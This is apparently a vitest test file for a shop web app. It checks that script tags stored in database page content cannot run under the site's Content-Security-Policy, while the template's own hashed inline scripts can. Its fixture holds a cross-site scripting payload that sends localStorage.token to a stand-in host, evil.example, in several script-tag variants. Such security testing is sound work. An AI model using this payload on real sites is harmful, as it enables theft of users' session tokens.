import { testShop } from '#test/shop.ts';
import { hash } from 'node:crypto';
import { beforeAll, expect, test } from 'vitest';

/* Markup that found its way into the database, past the allow-list for HTML. */

const shop = testShop({ pages: true });
const stolen = 'fetch("https://evil.example/"+localStorage.token)';
const body = `<p>Hours</p><script>${stolen}</script><script nonce="">${stolen}</script><SCRIPT>${stolen}</SCRIPT>`;
beforeAll(async () => {
  await shop.context.db.insertInto('content_page').values({ url: 'hours', title: 'Hours', body }).execute();
  shop.context.changes.tell({});
});

const sha = (code: string) => `'sha256-${hash('sha256', code, 'base64')}'`;

test('a script in stored HTML is not allowed to run, the template’s are', async () => {
  const answer = await shop.app.inject('/page/hours/');
  expect(answer.statusCode).toBe(200);
  expect(answer.body).toContain(`<script>${stolen}</script>`);
  const policy = String(answer.headers['content-security-policy']);
  expect(policy).not.toContain(sha(stolen));
  const inline = [...answer.body.matchAll(/<script(?! src|[^>]* src=|[^>]*json")[^>]*>([\s\S]*?)<\/script>/g)]
    .map(([, code = '']) => code)
    .filter((code) => code !== stolen);
  expect(inline.length).toBeGreaterThan(2);
  for (const code of inline) expect(policy).toContain(sha(code));
});

test('the page that is sent says nothing of how the template’s scripts were known', async () => {
  expect((await shop.app.inject('/')).body).not.toMatch(/<(script|link)[^>]* nonce=/);
});
